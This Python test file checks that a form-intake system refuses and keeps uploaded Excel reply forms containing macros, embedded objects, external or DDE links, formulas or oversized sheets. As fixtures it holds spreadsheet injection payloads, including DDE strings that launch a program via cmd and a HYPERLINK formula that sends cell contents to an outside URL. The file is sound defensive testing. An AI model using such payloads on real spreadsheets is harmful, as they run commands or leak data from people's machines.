"""Workbooks that are more than a form: refused unread with a clear reason and kept, or read as the text they show."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Mapping
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula

from flows.adapters.sql_ledger import SqlLedger
from flows.letters.workbook import LedgerView, workbook
from flows.receiving import receive
from tests.ledger.steps import TEA, enter
from tests.ledger.test_returns import ONE, desk, filled, put, state

SIGNED = {"办理意见": "签收"}
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
Change = bytes | Callable[[bytes], bytes]


def changed(data: bytes, parts: Mapping[str, Change]) -> bytes:
    """The workbook with some parts changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            change = parts.get(name, old.read(name))
            new.writestr(name, change if isinstance(change, bytes) else change(old.read(name)))
        for name in parts.keys() - set(old.namelist()):
            change = parts[name]
            assert isinstance(change, bytes)
            new.writestr(name, change)
    return out.getvalue()


def with_type(part: str, content_type: str) -> Callable[[bytes], bytes]:
    line = f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'
    return lambda types: types.replace(b"</Types>", line.encode())


def with_relation(kind: str, target: str) -> Callable[[bytes], bytes]:
    line = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"/></Relationships>'
    return lambda relations: relations.replace(b"</Relationships>", line.encode())


def macro_enabled(types: bytes) -> bytes:
    plain, enabled = b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
    assert plain in types
    return with_type("/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")(types.replace(plain, enabled))


XLSM = {
    "[Content_Types].xml": macro_enabled,
    "xl/_rels/workbook.xml.rels": with_relation(
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"
    ),
    "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open",
}
# The macro's part under another name, the package's list of types in UTF-16.
DISGUISED = {
    "[Content_Types].xml": lambda types: with_type("/xl/a.bin", "application/vnd.ms-office.vbaProject")(types)
    .decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    "xl/a.bin": b"\xd0\xcf\x11\xe0",
}  # fmt: skip
MACRO_SHEET = {"xl/macrosheets/sheet1.xml": f"<worksheet {_MAIN}/>".encode()}
EMBEDDED = {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}


def linked(part: str) -> dict[str, Change]:
    """Parts of a workbook that refers to another (or to a program) as the spreadsheet programs write it."""
    reference = f'</sheets><externalReferences><externalReference xmlns:r="{_RELATIONS}" r:id="rIdX"/></externalReferences>'
    to = f'<Relationship Id="rId1" Type="{_RELATIONS}/externalLinkPath" Target="file:///srv/a.xlsx" TargetMode="External"/>'
    return {
        "[Content_Types].xml": with_type(
            "/xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        ),
        "xl/_rels/workbook.xml.rels": with_relation(f"{_RELATIONS}/externalLink", "externalLinks/externalLink1.xml"),
        "xl/workbook.xml": lambda book: book.replace(b"</sheets>", reference.encode()),
        "xl/externalLinks/externalLink1.xml": f'<externalLink {_MAIN} xmlns:r="{_RELATIONS}">{part}</externalLink>'.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{to}</Relationships>'
        ).encode(),
    }


FOREIGN = [
    ("宏", XLSM), ("宏", DISGUISED), ("宏", MACRO_SHEET), ("嵌入对象", EMBEDDED),
    ("对其他工作簿或程序的引用", linked('<externalBook r:id="rId1"/>')),
    ("对其他工作簿或程序的引用", linked('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>')),
]  # fmt: skip


@pytest.mark.parametrize(("said", "parts"), FOREIGN)
def test_what_no_form_has_is_refused_with_its_reason_and_kept(
    ledger: SqlLedger, tmp_path: Path, said: str, parts: Mapping[str, Change]
) -> None:
    enter(ledger, TEA)
    plain = filled(ledger, "张某", SIGNED)
    data = changed(plain, parts)
    put(tmp_path, "回执.xlsx", data)
    done = receive(tmp_path, desk(ledger))
    assert (done.forms, done.answers) == ({"refused": 1}, 0)
    (kept,) = (tmp_path / "refused").glob("*-回执.xlsx")
    assert kept.read_bytes() == data
    (why,) = json.loads(kept.with_name(kept.name + ".why.json").read_text("utf-8"))["refused"]
    assert f"含有{said}" in why and "请使用系统下发的回执表" in why
    assert (state(ledger), (tmp_path / "回执.xlsx").exists()) == ("issued", False)
    put(tmp_path, "回执.xlsx", changed(plain, {}))  # without that part it is taken
    assert receive(tmp_path, desk(ledger)).forms == {"taken": 1}


FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.cn/"&B1,"签收")', "=DDE(\"cmd\",\"/C calc\",\"x\")", "=[1]Sheet1!A1",
    ArrayFormula("G5:G6", "=A5:A6"), DataTableFormula("G5:G6"),
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS, ids=str)
def test_a_formula_in_an_answer_is_refused_and_its_cell_named(ledger: SqlLedger, tmp_path: Path, formula: object) -> None:
    enter(ledger, TEA)
    data = filled(ledger, "张某", {"办理意见": "报告进展", "进展或理由": formula})
    put(tmp_path, "回执.xlsx", data)
    done = receive(tmp_path, desk(ledger))
    assert done.forms == {"refused": 1} and "单元格G5含有公式" in done.refused[0]
    assert [path.read_bytes() for path in (tmp_path / "refused").glob("*.xlsx")] == [data]
    assert state(ledger) == "issued"


@pytest.mark.parametrize("said", ["=cmd|'/C calc'!A0", "+1+1", "-2", "@SUM(A1)", "{=1}"])
def test_text_that_begins_like_a_formula_stays_text_on_its_whole_way(ledger: SqlLedger, tmp_path: Path, said: str) -> None:
    enter(ledger, TEA)
    put(tmp_path, "签收.xlsx", filled(ledger, "张某", SIGNED))
    receive(tmp_path, desk(ledger))
    book = openpyxl.load_workbook(io.BytesIO(filled(ledger, "张某", {"办理意见": "报告进展"})))
    cell = book.worksheets[0]["G5"]
    cell.value = said
    cell.data_type = "s"
    book.save(tmp_path / "进展.xlsx")
    assert receive(tmp_path, desk(ledger)).forms == {"taken": 1}
    row = ledger.commitment(ONE)
    assert row is not None and row["progress"] == said
    made = openpyxl.load_workbook(io.BytesIO(workbook(LedgerView([row], date(2026, 3, 5), {}, []))))
    shown = [cell for sheet in made for line in sheet.iter_rows() for cell in line if cell.value == said]
    assert shown and {cell.data_type for cell in shown} == {"s"}
    formulas = [cell for sheet in made for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    assert not [cell for cell in formulas if "cmd" in str(cell.value)]


def huge(rows: int, columns: int) -> bytes:
    line = "<c><v>1</v></c>" * columns
    cells = "".join(f'<row r="{number}">{line}</row>' for number in range(1, rows + 1))
    return f"<worksheet {_MAIN}><sheetData>{cells}</sheetData></worksheet>".encode()


@pytest.mark.parametrize(
    ("parts", "said"),
    [
        ({"xl/worksheets/sheet1.xml": huge(4_900, 160)}, "单元格过多"),
        ({"xl/worksheets/sheet1.xml": huge(10, 200)}, "10行、200列，超出回执表"),
        ({"xl/worksheets/sheet1.xml": huge(5_001, 1)}, "5001行"),
        ({f"xl/worksheets/sheet{number}.xml": huge(1, 1) for number in range(2, 600)}, "500个部分"),
    ],
    ids=["cells", "columns", "rows", "parts"],
)
def test_a_huge_sheet_is_refused_by_its_size(ledger: SqlLedger, tmp_path: Path, parts: Mapping[str, bytes], said: str) -> None:
    enter(ledger, TEA)
    data = changed(filled(ledger, "张某", SIGNED), parts)
    put(tmp_path, "大表.xlsx", data)
    done = receive(tmp_path, desk(ledger))
    assert done.forms == {"refused": 1} and said in done.refused[0]
    assert [path.read_bytes() for path in (tmp_path / "refused").glob("*.xlsx")] == [data]
    assert state(ledger) == "issued"
